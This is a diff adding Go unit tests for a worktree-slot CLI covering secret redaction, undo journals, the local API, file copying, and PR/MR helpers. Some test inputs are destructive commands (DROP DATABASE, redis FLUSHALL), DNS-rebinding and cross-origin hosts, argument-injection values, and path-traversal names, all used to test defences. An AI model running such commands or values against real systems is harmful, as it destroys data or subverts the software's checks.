+		{[]string{"docker", "exec", "-e", "PGPASSWORD=secret", "db", "psql"}, "docker exec -e PGPASSWORD=*** db psql"},
+		{[]string{"redis-cli", "-a", "hunter2", "FLUSHALL"}, "redis-cli -a *** FLUSHALL"},
+		{[]string{"psql", "-c", "DROP DATABASE x;"}, `psql -c "DROP DATABASE x;"`},
+	}
+	for _, tt := range tests {
+		if got := commandLine(tt.args); got != tt.want {
+			t.Errorf("commandLine(%v) = %q, want %q", tt.args, got, tt.want)
+		}
+	}
+}
+
+func TestTrimUndoJournal(t *testing.T) {
+	var entries []UndoEntry
+	for i := 1; i <= 5; i++ {
+		entries = append(entries, UndoEntry{SlotName: fmt.Sprintf("app-%d", i)})
+	}
+
+	kept, dropped := trimUndoJournal(entries, 3)
+	if len(kept) != 3 || kept[0].SlotName != "app-3" || kept[2].SlotName != "app-5" {
+		t.Errorf("kept = %v, want app-3..app-5", kept)
+	}
+	if len(dropped) != 2 || dropped[0].SlotName != "app-1" {
+		t.Errorf("dropped = %v, want app-1, app-2", dropped)
+	}
+
+	kept, dropped = trimUndoJournal(entries, 10)
+	if len(kept) != 5 || dropped != nil {
+		t.Errorf("trimUndoJournal under limit = %d kept, %v dropped", len(kept), dropped)
+	}
+}
+
+func TestExtractGlobalFlags(t *testing.T) {
+	tests := []struct {
+		args          []string
+		want          string
+		yes, jsonFlag bool
+	}{
+		{[]string{"delete", "3", "-y"}, "delete 3", true, false},
+		{[]string{"--yes", "clean", "--do"}, "clean --do", true, false},
+		{[]string{"done", "--json"}, "done", false, true},
+		{[]string{"run", "--", "apt-get", "install", "-y", "--json"}, "run -- apt-get install -y --json", false, false},
+		{[]string{"clean", "--color=never"}, "clean", false, false},
+		{[]string{"--color", "always", "clean", "docker"}, "clean docker", false, false},
+	}
+	for _, tt := range tests {
+		args, yes, jsonOut, _ := extractGlobalFlags(tt.args)
+		if strings.Join(args, " ") != tt.want || yes != tt.yes || jsonOut != tt.jsonFlag {
+			t.Errorf("extractGlobalFlags(%v) = %v, %v, %v", tt.args, args, yes, jsonOut)
+		}
+	}
+	if _, _, _, color := extractGlobalFlags([]string{"--color", "always", "clean"}); color != "always" {
+		t.Errorf("extractGlobalFlags color = %q, want always", color)
+	}
+}
+
+func TestColorEnabled(t *testing.T) {
+	tests := []struct {
+		mode, noColor, term string
+		tty, want           bool
+	}{
+		{"", "", "xterm", true, true},
+		{"auto", "", "xterm", false, false},
+		{"", "1", "xterm", true, false},
+		{"", "", "dumb", true, false},
+		{"always", "1", "dumb", false, true},
+		{"never", "", "xterm", true, false},
+	}
+	for _, tt := range tests {
+		if got, err := colorEnabled(tt.mode, tt.noColor, tt.term, tt.tty); err != nil || got != tt.want {
+			t.Errorf("colorEnabled(%q, %q, %q, %v) = %v, %v; want %v", tt.mode, tt.noColor, tt.term, tt.tty, got, err, tt.want)
+		}
+	}
+	if _, err := colorEnabled("sometimes", "", "", true); err == nil {
+		t.Error("colorEnabled(sometimes) should fail")
+	}
+
+	useColor = true
+	defer func() { useColor = false }()
+	if got := green.Sprintf("Done! %d", 2); got != "\033[32mDone! 2\033[0m" {
+		t.Errorf("green.Sprintf = %q", got)
+	}
+}
+
+func TestNewErrorEnvelope(t *testing.T) {
+	env := newErrorEnvelope(exitLocked, "Slot 'app-1' is LOCKED", []string{"Unlock first: slot-cli unlock"})
+	data, _ := json.Marshal(env)
+	want := `{"error":{"code":4,"reason":"locked","message":"Slot 'app-1' is LOCKED","hints":["Unlock first: slot-cli unlock"]}}`
+	if string(data) != want {
+		t.Errorf("envelope = %s, want %s", data, want)
+	}
+}
+
+func TestIsYes(t *testing.T) {
+	for answer, want := range map[string]bool{
+		"y\n": true, "Yes\n": true, " YES ": true,
+		"\n": false, "n\n": false, "yep\n": false,
+	} {
+		if got := isYes(answer); got != want {
+			t.Errorf("isYes(%q) = %v, want %v", answer, got, want)
+		}
+	}
+}
+
+func TestParseCommandResult(t *testing.T) {
+	res := parseCommandResult("✓ Deleted slot 'foo'\n", 0)
+	if !res.OK || res.Error != nil || res.Output != "✓ Deleted slot 'foo'\n" {
+		t.Errorf("success result = %+v", res)
+	}
+
+	out := "Warning: Slot has uncommitted changes\n" +
+		`{"error":{"code":3,"reason":"dirty","message":"slot has uncommitted changes"}}` + "\n"
+	res = parseCommandResult(out, exitDirty)
+	if res.OK || res.Error == nil || res.Error.Reason != "dirty" || res.Output != "Warning: Slot has uncommitted changes" {
+		t.Errorf("failure result = %+v", res)
+	}
+	if status := commandStatus(res); status != 409 {
+		t.Errorf("commandStatus(dirty) = %d, want 409", status)
+	}
+
+	res = parseCommandResult("panic: boom\n", 2)
+	if res.Error != nil || res.Output != "panic: boom\n" {
+		t.Errorf("result without envelope = %+v", res)
+	}
+}
+
+func TestAPIAuthorized(t *testing.T) {
+	if apiAuthorized("", "") || apiAuthorized("Bearer ", "") {
+		t.Error("an empty token should never authorize")
+	}
+	if apiAuthorized("", "s3cret") || apiAuthorized("Bearer nope", "s3cret") {
+		t.Error("missing/wrong token should be rejected")
+	}
+	if !apiAuthorized("Bearer s3cret", "s3cret") {
+		t.Error("matching token should be accepted")
+	}
+}
+
+func TestAPIRequestError(t *testing.T) {
+	tests := []struct {
+		method, host, origin, contentType, listenHost string
+		ok                                            bool
+	}{
+		{"GET", "127.0.0.1:7777", "", "", "127.0.0.1", true},
+		{"GET", "localhost:7777", "", "", "127.0.0.1", true},
+		{"GET", "[::1]:7777", "", "", "127.0.0.1", true},
+		{"GET", "evil.example:7777", "", "", "127.0.0.1", false}, // DNS rebinding
+		{"GET", "10.0.0.5:7777", "", "", "10.0.0.5", true},
+		{"GET", "10.0.0.5:7777", "", "", "0.0.0.0", false},
+		{"GET", "127.0.0.1:7777", "https://evil.example", "", "127.0.0.1", false},
+		{"POST", "127.0.0.1:7777", "", "application/json", "127.0.0.1", true},
+		{"POST", "127.0.0.1:7777", "", "application/json; charset=utf-8", "127.0.0.1", true},
+		{"POST", "127.0.0.1:7777", "", "text/plain", "127.0.0.1", false},
+		{"POST", "127.0.0.1:7777", "", "", "127.0.0.1", false},
+	}
+	for _, tt := range tests {
+		r := httptest.NewRequest(tt.method, "/api/slots", nil)
+		r.Host = tt.host
+		if tt.origin != "" {
+			r.Header.Set("Origin", tt.origin)
+		}
+		if tt.contentType != "" {
+			r.Header.Set("Content-Type", tt.contentType)
+		}
+		if msg := apiRequestError(r, tt.listenHost); (msg == "") != tt.ok {
+			t.Errorf("%s Host=%s Origin=%q Content-Type=%q: error %q, want ok=%v", tt.method, tt.host, tt.origin, tt.contentType, msg, tt.ok)
+		}
+	}
+}
+
+func TestAPISlotCommandsNeedRegisteredSlot(t *testing.T) {
+	root := t.TempDir()
+	oldRegistry := registryPath
+	defer func() { registryPath = oldRegistry }()
+	registryPath = filepath.Join(root, "registry.json")
+	mainRepo := filepath.Join(root, "app")
+	os.MkdirAll(mainRepo, 0755)
+	os.MkdirAll(filepath.Join(root, "stray"), 0755) // a directory that isn't a slot
+	saveRegistry(&Registry{
+		Projects: map[string]ProjectConfig{"app": {Path: mainRepo}},
+		Slots:    map[string]SlotConfig{"app-2": {Project: "app", Branch: "slot-2"}}, // worktree gone
+	})
+
+	handler := apiHandler("s3cret", "127.0.0.1")
+	tests := []struct {
+		path string
+		body string
+		want int
+	}{
+		{"/api/slots/stray/sync", "", http.StatusNotFound},
+		{"/api/slots/stray/db-sync", "", http.StatusNotFound},
+		{"/api/slots/app-2/db-sync", "", http.StatusNotFound},
+		{"/api/slots", `{"project": "app", "slot": "` + strings.Repeat("a", apiMaxBody) + `"}`, http.StatusBadRequest},
+	}
+	for _, tt := range tests {
+		r := httptest.NewRequest("POST", tt.path, strings.NewReader(tt.body))
+		r.Host = "127.0.0.1:7777"
+		r.Header.Set("Authorization", "Bearer s3cret")
+		r.Header.Set("Content-Type", "application/json")
+		w := httptest.NewRecorder()
+		handler.ServeHTTP(w, r)
+		if w.Code != tt.want {
+			t.Errorf("POST %s = %d, want %d", tt.path, w.Code, tt.want)
+		}
+	}
+}
+
+func TestAPISlotRe(t *testing.T) {
+	for value, want := range map[string]bool{"3": true, "auth": true, "fix-login.v2": true, "--host=evil": false, "-f": false, "a b": false, "": false} {
+		if got := apiSlotRe.MatchString(value); got != want {
+			t.Errorf("apiSlotRe(%q) = %v, want %v", value, got, want)
+		}
+	}
+}
+
+func TestBuildWatchRows(t *testing.T) {
+	root := t.TempDir()
+	mainRepo := filepath.Join(root, "app")
+	slotPath := filepath.Join(root, "app-1")
+	os.MkdirAll(mainRepo, 0755)
+	os.MkdirAll(slotPath, 0755)
+	os.WriteFile(filepath.Join(slotPath, ".env"), []byte("PORT=3001\nDB_PORT=5433\n"), 0644)
+
+	reg := &Registry{
+		Projects: map[string]ProjectConfig{"app": {Path: mainRepo}},
+		Slots: map[string]SlotConfig{
+			"app-1": {Project: "app", Branch: "slot-1"},
+			"app-2": {Project: "app", Branch: "slot-2", Locked: true},
+		},
+	}
+	agents := []AgentProcess{{Agent: "claude", CWD: filepath.Join(slotPath, "src"), Runtime: "5m"}}
+	containers := []DockerProcess{{Name: "app-1-db-1"}, {Name: "app-10-db-1"}, {Name: "app-db-1"}}
+
+	rows := buildWatchRows(reg, agents, containers, func(port int) bool { return port == 3001 })
+	if len(rows) != 2 {
+		t.Fatalf("got %d rows, want 2", len(rows))
+	}
+	r := rows[0]
+	if r.Slot != "app-1" || !r.Exists || r.Containers != 1 || fmt.Sprint(r.Agents) != "[claude 5m]" {
+		t.Errorf("app-1 row = %+v", r)
+	}
+	if fmt.Sprint(r.Ports) != "[DB:5433○ PORT:3001●]" {
+		t.Errorf("app-1 ports = %v", r.Ports)
+	}
+	if r := rows[1]; r.Exists || !r.Locked || r.Containers != 0 || len(r.Agents) != 0 {
+		t.Errorf("app-2 row = %+v", r)
+	}
+}
+
+func TestFindLockfileDirs(t *testing.T) {
+	root := t.TempDir()
+	for _, rel := range []string{
+		"pnpm-lock.yaml",
+		"apps/web/pnpm-lock.yaml",
+		"apps/web/package-lock.json",
+		"apps/api/package.json",
+		"apps/api/yarn.lock",
+		"tools/bun.lockb",
+		"legacy/package-lock.json",
+		"node_modules/dep/pnpm-lock.yaml",
+		"apps/web/node_modules/x/yarn.lock",
+		"services/billing/go.mod",
+		"services/billing/package-lock.json",
+		"services/ml/requirements.txt",
+		"services/ml/poetry.lock",
+		"services/ml/.venv/lib/requirements.txt",
+		"crates/Cargo.toml",
+		"crates/core/Cargo.toml",
+		"crates/target/debug/Cargo.toml",
+	} {
+		os.MkdirAll(filepath.Join(root, filepath.Dir(rel)), 0755)
+		os.WriteFile(filepath.Join(root, rel), nil, 0644)
+	}
+
+	var got []string
+	for _, ld := range findLockfileDirs(root) {
+		rel, _ := filepath.Rel(root, ld.Dir)
+		got = append(got, filepath.ToSlash(rel)+":"+ld.Manager)
+	}
+	want := "apps/api:yarn apps/web:pnpm crates:cargo legacy:npm .:pnpm services/billing:npm services/billing:go services/ml:poetry tools:bun"
+	if strings.Join(got, " ") != want {
+		t.Errorf("findLockfileDirs() = %v, want %s", got, want)
+	}
+}
+
+func TestCloneTreeArgs(t *testing.T) {
+	tests := []struct {
+		goos, mode string
+		want       string
+	}{
+		{"linux", "clone", "cp -a --reflink=auto src dst"},
+		{"linux", "hardlink", "cp -al src dst"},
+		{"darwin", "clone", "cp -cR src dst"},
+		{"darwin", "hardlink", "cp -cR src dst"},
+		{"linux", "offline", ""},
+		{"windows", "clone", ""},
+	}
+	for _, tt := range tests {
+		if got := strings.Join(cloneTreeArgs(tt.goos, tt.mode, "src", "dst"), " "); got != tt.want {
+			t.Errorf("cloneTreeArgs(%s, %s) = %q, want %q", tt.goos, tt.mode, got, tt.want)
+		}
+	}
+}
+
+func TestCowCopyBatches(t *testing.T) {
+	files := []string{".env", "apps/web/.env.local", "apps/web/cert.pem"}
+
+	linux := cowCopyBatches("linux", "/slot", files)
+	if len(linux) != 1 || strings.Join(linux[0].Args, " ") != "cp --reflink=auto -p --parents -t /slot -- .env apps/web/.env.local apps/web/cert.pem" {
+		t.Errorf("linux batches = %v", linux)
+	}
+
+	darwin := cowCopyBatches("darwin", "/slot", files)
+	if len(darwin) != 2 {
+		t.Fatalf("darwin batches = %v, want one per directory", darwin)
+	}
+	if got := strings.Join(darwin[1].Args, " "); got != "cp -c -p -- apps/web/.env.local apps/web/cert.pem /slot/apps/web/" {
+		t.Errorf("darwin batch = %q", got)
+	}
+
+	if b := cowCopyBatches("windows", "/slot", files); b != nil {
+		t.Errorf("windows batches = %v, want none", b)
+	}
+
+	many := make([]string, 450)
+	for i := range many {
+		many[i] = fmt.Sprintf("f%d", i)
+	}
+	if b := cowCopyBatches("linux", "/slot", many); len(b) != 3 || len(b[2].Files) != 50 {
+		t.Errorf("450 files gave %d batches", len(b))
+	}
+}
+
+func TestCopyFiles(t *testing.T) {
+	src, dst := t.TempDir(), t.TempDir()
+	os.MkdirAll(filepath.Join(src, "apps/web"), 0755)
+	os.WriteFile(filepath.Join(src, ".env"), []byte("PORT=3000\n"), 0600)
+	os.WriteFile(filepath.Join(src, "apps/web/.env.local"), []byte("X=1\n"), 0644)
+
+	copyFiles(src, dst, []string{".env", "apps/web/.env.local"})
+
+	if data, _ := os.ReadFile(filepath.Join(dst, "apps/web/.env.local")); string(data) != "X=1\n" {
+		t.Errorf("nested file = %q", data)
+	}
+	info, err := os.Stat(filepath.Join(dst, ".env"))
+	if err != nil || info.Mode().Perm() != 0600 {
+		t.Errorf(".env copy = %v, %v (want mode 0600)", info, err)
+	}
+}
+
+func TestProvisionSteps(t *testing.T) {
+	tests := []struct {
+		args    []string
+		pending []string
+		all     bool
+		want    string
+	}{
+		{nil, nil, true, "copy,docker,db,deps"},
+		{[]string{"--no-deps"}, nil, true, "copy,docker,db"},
+		{[]string{"--no-docker"}, nil, true, "copy,deps"},
+		{[]string{"--no-copy", "--no-db"}, nil, true, "docker,deps"},
+		{nil, []string{"deps", "copy"}, false, "copy,deps"},
+		{[]string{"--no-deps"}, []string{"deps", "copy"}, false, "copy"},
+		{nil, nil, false, ""},
+	}
+	for _, tt := range tests {
+		got := strings.Join(stepsToProvision(tt.pending, parseSkipFlags(tt.args), tt.all), ",")
+		if got != tt.want {
+			t.Errorf("stepsToProvision(%v, %v, %v) = %q, want %q", tt.pending, tt.args, tt.all, got, tt.want)
+		}
+	}
+}
+
+func TestSlotIgnore(t *testing.T) {
+	ignore, err := parseSlotIgnore(`# team rules
+max-size 5MB
+*.sqlite
+fixtures/big/
+!.env.local
+!node_modules/.prisma/
+`)
+	if err != nil {
+		t.Fatalf("parseSlotIgnore: %v", err)
+	}
+	if ignore.MaxSize != 5<<20 {
+		t.Errorf("MaxSize = %d, want %d", ignore.MaxSize, 5<<20)
+	}
+
+	tests := []struct {
+		file string
+		size int64
+		want bool
+	}{
+		{".env", 100, true},
+		{"apps/web/.env", 100, true},
+		{"data/dev.sqlite", 100, false},
+		{"fixtures/big/dump.json", 100, false},
+		{"fixtures/big", 100, true},
+		{"node_modules/foo/index.js", 100, false},
+		{"node_modules/.prisma/client/index.js", 100, true},
+		{"assets/video.mp4", 4 << 20, true},
+		{"assets/video.mp4", 6 << 20, false},
+		{".env.local", 6 << 20, true},
+		{"logs/app.log", 100, false},
+	}
+	for _, tt := range tests {
+		if got := ignore.Copies(tt.file, tt.size); got != tt.want {
+			t.Errorf("Copies(%q, %d) = %v, want %v", tt.file, tt.size, got, tt.want)
+		}
+	}
+
+	if _, err := parseSlotIgnore("max-size lots\n"); err == nil {
+		t.Error("expected an error for an invalid max-size")
+	}
+	if ignore, _ := parseSlotIgnore("max-size 0\n"); !ignore.Copies("huge.bin", 1<<40) {
+		t.Error("max-size 0 should disable the size cap")
+	}
+}
+
+func TestScanFiles(t *testing.T) {
+	root := t.TempDir()
+	for rel, content := range map[string]string{
+		".env":                     "PORT=3000\n",
+		"apps/web/.env":            "WEB_PORT=3001\n",
+		"node_modules/pkg/.env":    "PORT=9999\n",
+		"apps/web/.next/x/.env":    "PORT=9998\n",
+		"infra/docker-compose.yml": "services: {}\n",
+	} {
+		path := filepath.Join(root, rel)
+		os.MkdirAll(filepath.Dir(path), 0755)
+		os.WriteFile(path, []byte(content), 0644)
+	}
+
+	var got []string
+	scanFiles(root, func(path string) bool {
+		return filepath.Base(path) == ".env"
+	}, func(path string, content []byte) {
+		rel, _ := filepath.Rel(root, path)
+		got = append(got, filepath.ToSlash(rel)+"="+strings.TrimSpace(string(content)))
+	})
+	if want := ".env=PORT=3000 apps/web/.env=WEB_PORT=3001"; strings.Join(got, " ") != want {
+		t.Errorf("scanFiles = %q, want %q", strings.Join(got, " "), want)
+	}
+
+	// The index is cached until forgotten
+	os.WriteFile(filepath.Join(root, "docker-compose.yml"), []byte("services: {}\n"), 0644)
+	if n := len(findComposeFiles(root)); n != 1 {
+		t.Errorf("cached findComposeFiles = %d files, want 1", n)
+	}
+	forgetFiles(filepath.Join(root, "docker-compose.yml"))
+	if n := len(findComposeFiles(root)); n != 2 {
+		t.Errorf("findComposeFiles after forgetFiles = %d files, want 2", n)
+	}
+}
+
+func TestHumanBytes(t *testing.T) {
+	tests := []struct {
+		n    int64
+		want string
+	}{
+		{0, "0B"},
+		{512, "512B"},
+		{12 * 1024, "12K"},
+		{1536 * 1024, "1.5M"},
+		{340 << 20, "340M"},
+		{1288490189, "1.2G"},
+	}
+	for _, tt := range tests {
+		if got := humanBytes(tt.n); got != tt.want {
+			t.Errorf("humanBytes(%d) = %q, want %q", tt.n, got, tt.want)
+		}
+	}
+}
+
+func TestCheckRegistry(t *testing.T) {
+	reg := &Registry{
+		Groups: map[string]GroupConfig{"work": {Name: "Work"}},
+		Projects: map[string]ProjectConfig{
+			"app":  {Path: "/src/app", Group: "work"},
+			"gone": {Path: "/src/gone", Group: "old"},
+		},
+		Slots: map[string]SlotConfig{
+			"app-1":    {Project: "app", Number: 1},
+			"app-2":    {Project: "app", Number: 2},
+			"ghost-1":  {Project: "ghost", Number: 1},
+			"gone-foo": {Project: "gone", Name: "foo"},
+		},
+	}
+	existing := map[string]bool{"/src/app": true, "/src/app-1": true}
+	checks := checkRegistry(reg, func(path string) bool { return existing[path] })
+
+	var got []string
+	for _, c := range checks {
+		if c.OK || c.Fix == "" {
+			t.Errorf("check %s should be a problem with a fix: %+v", c.Name, c)
+		}
+		got = append(got, c.Name)
+	}
+	// gone's missing slot isn't reported on top of the missing project
+	if want := "gone gone app-2 ghost-1"; strings.Join(got, " ") != want {
+		t.Errorf("problems = %q, want %q", strings.Join(got, " "), want)
+	}
+
+	delete(reg.Projects, "gone")
+	delete(reg.Slots, "gone-foo")
+	delete(reg.Slots, "ghost-1")
+	delete(reg.Slots, "app-2")
+	if checks := checkRegistry(reg, func(path string) bool { return existing[path] }); len(checks) != 1 || !checks[0].OK {
+		t.Errorf("healthy registry checks = %+v", checks)
+	}
+}
+
+func TestReleaseAssets(t *testing.T) {
+	if got := releaseAssetName("darwin", "arm64"); got != "slot-cli_darwin_arm64" {
+		t.Errorf("releaseAssetName(darwin, arm64) = %q", got)
+	}
+	if got := releaseAssetName("windows", "amd64"); got != "slot-cli_windows_amd64.exe" {
+		t.Errorf("releaseAssetName(windows, amd64) = %q", got)
+	}
+
+	sums := parseChecksums("ABC123  slot-cli_linux_amd64\ndef456 *slot-cli_windows_amd64.exe\n\ngarbage\n")
+	if sums["slot-cli_linux_amd64"] != "abc123" || sums["slot-cli_windows_amd64.exe"] != "def456" || len(sums) != 2 {
+		t.Errorf("parseChecksums = %v", sums)
+	}
+}
+
+func TestIsPluginName(t *testing.T) {
+	for name, want := range map[string]bool{
+		"deploy":     true,
+		"jira-sync":  true,
+		"":           false,
+		"--verbose":  false,
+		"../evil":    false,
+		`..\evil`:    false,
+		"c:evil":     false,
+		"sub/deploy": false,
+	} {
+		if got := isPluginName(name); got != want {
+			t.Errorf("isPluginName(%q) = %v, want %v", name, got, want)
+		}
+	}
+}
+
+func TestGhPRCreateArgs(t *testing.T) {
+	tests := []struct {
+		name string
+		opts PROptions
+		want string
+	}{
+		{"default", PROptions{}, "pr create --fill"},
+		{"title only", PROptions{Title: "Add login"}, "pr create --fill --title Add login"},
+		{"title and body", PROptions{Title: "Add login", BodyFile: "pr.md"}, "pr create --title Add login --body-file pr.md"},
+		{"draft with reviewers and labels", PROptions{Draft: true, Reviewers: []string{"ana", "bo"}, Labels: []string{"wip"}},
+			"pr create --fill --draft --reviewer ana --reviewer bo --label wip"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := strings.Join(ghPRCreateArgs(tt.opts), " "); got != tt.want {
+				t.Errorf("ghPRCreateArgs() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestParsePRURL(t *testing.T) {
+	tests := []struct {
+		out        string
+		wantURL    string
+		wantNumber int
+	}{
+		{"\nCreating pull request for slot-3 into main in acme/app\n\nhttps://github.com/acme/app/pull/142\n", "https://github.com/acme/app/pull/142", 142},
+		{"https://github.example.com/acme/app/pull/7", "https://github.example.com/acme/app/pull/7", 7},
+		{"https://gitlab.com/acme/app/-/merge_requests/12", "https://gitlab.com/acme/app/-/merge_requests/12", 12},
+		{"https://bitbucket.org/acme/app/pull-requests/3", "https://bitbucket.org/acme/app/pull-requests/3", 3},
+		{"no pull request here", "", 0},
+	}
+	for _, tt := range tests {
+		url, number := parsePRURL(tt.out)
+		if url != tt.wantURL || number != tt.wantNumber {
+			t.Errorf("parsePRURL(%q) = %q, %d, want %q, %d", tt.out, url, number, tt.wantURL, tt.wantNumber)
+		}
+	}
+}
+
+func TestDetectForge(t *testing.T) {
+	tests := []struct {
+		remote   string
+		wantName string
+		wantHost string
+		wantPath string
+	}{
+		{"git@github.com:acme/app.git", "GitHub", "github.com", "acme/app"},
+		{"https://github.com/acme/app", "GitHub", "github.com", "acme/app"},
+		{"https://gitlab.com/acme/platform/app.git\n", "GitLab", "gitlab.com", "acme/platform/app"},
+		{"ssh://git@gitlab.acme.dev:2222/team/app.git", "GitLab", "gitlab.acme.dev", "team/app"},
+		{"git@bitbucket.org:acme/app.git", "Bitbucket", "bitbucket.org", "acme/app"},
+		{"https://me@bitbucket.org/acme/app.git", "Bitbucket", "bitbucket.org", "acme/app"},
+	}
+	for _, tt := range tests {
+		host, path := parseRemoteURL(tt.remote)
+		if host != tt.wantHost || path != tt.wantPath {
+			t.Errorf("parseRemoteURL(%q) = %q, %q, want %q, %q", tt.remote, host, path, tt.wantHost, tt.wantPath)
+		}
+		if got := detectForge(tt.remote).Name(); got != tt.wantName {
+			t.Errorf("detectForge(%q) = %s, want %s", tt.remote, got, tt.wantName)
+		}
+	}
+}
+
+func TestGlabMRCreateArgs(t *testing.T) {
+	got := strings.Join(glabMRCreateArgs("slot-3", "main", "", PROptions{Draft: true, Reviewers: []string{"ana", "bo"}, Labels: []string{"wip"}}), " ")
+	want := "mr create --source-branch slot-3 --yes --target-branch main --fill --draft --reviewer ana,bo --label wip"
+	if got != want {
+		t.Errorf("glabMRCreateArgs() = %q, want %q", got, want)
+	}
+	got = strings.Join(glabMRCreateArgs("slot-3", "main", "Body", PROptions{Title: "Add login"}), " ")
+	want = "mr create --source-branch slot-3 --yes --target-branch main --title Add login --description Body"
+	if got != want {
+		t.Errorf("glabMRCreateArgs() = %q, want %q", got, want)
+	}
+}
+
+func TestSummarizeChecks(t *testing.T) {
+	checks := []PRCheck{
+		{Name: "build", Status: "COMPLETED", Conclusion: "SUCCESS"},
+		{Name: "lint", Status: "COMPLETED", Conclusion: "FAILURE"},
+		{Name: "e2e", Status: "IN_PROGRESS"},
+		{Name: "deploy", Status: "COMPLETED", Conclusion: "SKIPPED"},
+		{Context: "ci/circleci", State: "PENDING"},
+		{Context: "codecov", State: "ERROR"},
+	}
+	got := summarizeChecks(checks)
+	want := map[string]int{"pass": 1, "fail": 2, "pending": 2, "skipped": 1}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("summarizeChecks() = %v, want %v", got, want)
+	}
+}
+
+func TestLatestReviews(t *testing.T) {
+	review := func(login, state string) PRReview {
+		r := PRReview{State: state}
+		r.Author.Login = login
+		return r
+	}
+	got := latestReviews([]PRReview{
+		review("ana", "CHANGES_REQUESTED"),
+		review("bo", "APPROVED"),
+		review("ana", "COMMENTED"),
+		review("ana", "APPROVED"),
+		review("cy", "APPROVED"),
+		review("cy", "DISMISSED"),
+	})
+	var states []string
+	for _, r := range got {
+		states = append(states, r.Author.Login+":"+r.State)
+	}
+	if want := "ana:APPROVED bo:APPROVED"; strings.Join(states, " ") != want {
+		t.Errorf("latestReviews() = %v, want %s", states, want)
+	}
+}
+
+func TestNormalizePRState(t *testing.T) {
+	tests := map[string]string{
+		"OPEN":       "open",
+		"opened":     "open",
+		"locked":     "open",
+		"MERGED":     "merged",
+		"merged":     "merged",
+		"CLOSED":     "closed",
+		"DECLINED":   "closed",
+		"SUPERSEDED": "closed",
+		"":           "",
+		"weird":      "",
+	}
+	for in, want := range tests {
+		if got := normalizePRState(in); got != want {
+			t.Errorf("normalizePRState(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func TestIssueBranchName(t *testing.T) {
+	tests := []struct {
+		tmpl  string
+		issue Issue
+		want  string
+	}{
+		{defaultIssueBranch, Issue{Number: 123, Title: "Login fails on Safari!"}, "feat/123-login-fails-on-safari"},
+		{"fix/{number}", Issue{Number: 7, Title: "whatever"}, "fix/7"},
+		{"{number}-{slug}", Issue{Number: 42, Title: "Support   the new billing API (v2) for enterprise customers in EU"}, "42-support-the-new-billing-api-v2-for"},
+		{defaultIssueBranch, Issue{Number: 9, Title: "???"}, "feat/9"},
+	}
+	for _, tt := range tests {
+		if got := issueBranchName(tt.tmpl, tt.issue); got != tt.want {
+			t.Errorf("issueBranchName(%q, %q) = %q, want %q", tt.tmpl, tt.issue.Title, got, tt.want)
+		}
+	}
+}
+
+func TestWithIssueLink(t *testing.T) {
+	url := "https://github.com/acme/app/issues/123"
+	tests := []struct {
+		body string
+		want string
+	}{
+		{"", "Closes " + url + "\n"},
+		{"Adds login.\n", "Adds login.\n\nCloses " + url + "\n"},
+		{"Fixes " + url, "Fixes " + url},
+	}
+	for _, tt := range tests {
+		if got := withIssueLink(tt.body, url); got != tt.want {
+			t.Errorf("withIssueLink(%q) = %q, want %q", tt.body, got, tt.want)
+		}
+	}
+}
+
+func TestRenderMergeMessage(t *testing.T) {
+	vars := map[string]string{
+		"slot": "app-3", "branch": "slot-3", "main": "main", "issue": "", "issue_url": "",
+		"subject": "feat: add login", "changelog": "- feat: add login\n- fix: typo",
+	}
+	withIssue := map[string]string{}
+	for k, v := range vars {
+		withIssue[k] = v
+	}
+	withIssue["issue"], withIssue["issue_url"] = "#12", "https://github.com/acme/app/issues/12"
+
+	tests := []struct {
+		name string
+		tmpl string
+		vars map[string]string
+		want string
+	}{
+		{"default without issue", defaultMergeMessage, vars,
+			"Merge slot-3 (app-3)\n\n- feat: add login\n- fix: typo\n"},
+		{"default with issue", defaultMergeMessage, withIssue,
+			"Merge slot-3 (app-3)\n\nIssue: https://github.com/acme/app/issues/12\n\n- feat: add login\n- fix: typo\n"},
+		{"conventional", "{subject} ({issue})\n\n{changelog}", withIssue,
+			"feat: add login (#12)\n\n- feat: add login\n- fix: typo\n"},
+		{"unknown placeholders are kept", "Merge {branch} {nope}", vars, "Merge slot-3 {nope}\n"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := renderMergeMessage(tt.tmpl, tt.vars); got != tt.want {
+				t.Errorf("renderMergeMessage() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSplitRemoteRef(t *testing.T) {
+	remotes := []string{"origin", "upstream"}
+	tests := []struct {
+		ref, remote, branch string
+	}{
+		{"origin/feature-x", "origin", "feature-x"},
+		{"upstream/fix/login", "upstream", "fix/login"},
+		{"feature/login", "origin", "feature/login"},
+		{"feature-x", "origin", "feature-x"},
+	}
+	for _, tt := range tests {
+		remote, branch := splitRemoteRef(tt.ref, remotes)
+		if remote != tt.remote || branch != tt.branch {
+			t.Errorf("splitRemoteRef(%q) = %q, %q, want %q, %q", tt.ref, remote, branch, tt.remote, tt.branch)
+		}
+	}
+}
+
+func TestBranchSlotName(t *testing.T) {
+	tests := map[string]string{
+		"feature-x":       "feature-x",
+		"feature/login":   "feature-login",
+		"ana/fix/#12 bug": "ana-fix-12-bug",
+		"123":             "branch-123",
+	}
+	for branch, want := range tests {
+		if got := branchSlotName(branch); got != want {
+			t.Errorf("branchSlotName(%q) = %q, want %q", branch, got, want)
+		}
+	}
+}
+
+func TestPullRequestLocalBranch(t *testing.T) {
+	var pr PullRequest
+	if err := json.Unmarshal([]byte(`{"number":456,"headRefName":"fix-login","isCrossRepository":true,"headRepositoryOwner":{"login":"ana"}}`), &pr); err != nil {
+		t.Fatal(err)
+	}
+	if got, want := pr.LocalBranch(), "ana/fix-login"; got != want {
+		t.Errorf("fork LocalBranch() = %q, want %q", got, want)
+	}
+	pr.IsCrossRepository = false
+	if got, want := pr.LocalBranch(), "fix-login"; got != want {
+		t.Errorf("LocalBranch() = %q, want %q", got, want)
+	}
+}
+
+func TestRevSlotName(t *testing.T) {
+	sha := "3f9a2c71d0e84b5a9c6e1f2d3b4a5c6d7e8f9a0b"
+	tests := []struct {
+		rev, want string
+	}{
+		{"v2.3.1", "v2.3.1"},
+		{"release/1.0", "release-1.0"},
+		{"3f9a2c7", "at-3f9a2c71"},
+		{sha, "at-3f9a2c71"},
+	}
+	for _, tt := range tests {
+		if got := revSlotName(tt.rev, sha); got != tt.want {
+			t.Errorf("revSlotName(%q) = %q, want %q", tt.rev, got, tt.want)
+		}
+	}
+}
+
